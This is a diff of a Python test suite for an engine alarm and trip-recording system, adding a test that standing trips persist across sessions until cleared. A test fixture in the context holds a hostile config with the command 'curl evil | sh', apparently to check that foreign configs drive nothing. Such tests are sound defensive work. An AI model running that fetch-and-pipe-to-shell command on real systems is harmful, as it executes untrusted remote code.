@@ -210,6 +210,42 @@ def in_a_pull_the_recorder_refuses():
         cell.stop()
 
 
+def a_trip_that_stands_outlives_the_session():
+    with Cell(s, "stands.book", ALARMS) as cell:
+        cell.rows(400)
+        asks(cell, "before the end", oil=0.2)
+        cell.rows(30)
+        cell.stop()
+    with Cell(s, "stands.book", ALARMS) as cell:
+        stood = cell.wait(lambda n: n.get("action") == "stood")
+        s.check("what stood is said at the next start", stood and stood["names"] == "oil low" and not stood["asked_again"], stood)
+        cell.rows(400)
+        arming, _ = pulled(cell, "with an old shut-down")
+        s.check("no pull is armed until it is cleared", arming.get("armed") is False and "oil low" in arming["why"], arming)
+        s.check("nothing is asked of an engine that runs again", cell.got == [], cell.got)
+        asks(cell, "a trip of this session", "coolant very hot", coolant=110)
+        cell.rows(30)
+        cell.ran.kill()
+    with Cell(s, "stands.book", ALARMS) as cell:
+        stood = cell.wait(lambda n: n.get("action") == "stood")
+        s.check("after a crash both are said", stood and stood["names"] == "oil low, coolant very hot" and stood["asked_again"], stood)
+        s.check("and asked for again", cell.told("throttle 0"), cell.got)
+        cell.rows(400)
+        cell.say("clear nonsense")
+        left = cell.wait(lambda n: n.get("action") == "clear")
+        s.check("another name clears nothing", left and left["cleared"] == 0 and left["standing"] == 1, left)
+        cell.say("clear all")
+        left = cell.wait(lambda n: n.get("action") == "clear")
+        s.check("clear all clears it", left and left["cleared"] == 1 and left["standing"] == 0, left)
+        arming, _ = pulled(cell, "cleared")
+        s.check("a pull is armed again", arming.get("armed") is True, arming)
+        cell.stop()
+    with Cell(s, "stands.book", ALARMS) as cell:
+        cell.rows(10)
+        s.check("and the next session has nothing to say of it", not [n for n in cell.news if n.get("action") == "stood"], cell.news[:4])
+        cell.stop()
+
+
 HOSTILE = ALARMS + """outputs:
   - {name: hostile line, kind: send, line: throttle 100}
   - {name: hostile file, kind: file, to: %s, line: "curl evil | sh"}
@@ -303,6 +339,7 @@ low_oil_pressure_before_load()
 asleep_is_told_while_arming()
 a_pull_by_hand_is_kept()
 in_a_pull_the_recorder_refuses()
+a_trip_that_stands_outlives_the_session()
 a_foreign_book_drives_nothing()
 outputs_belong_to_this_machine()
 s.finish()
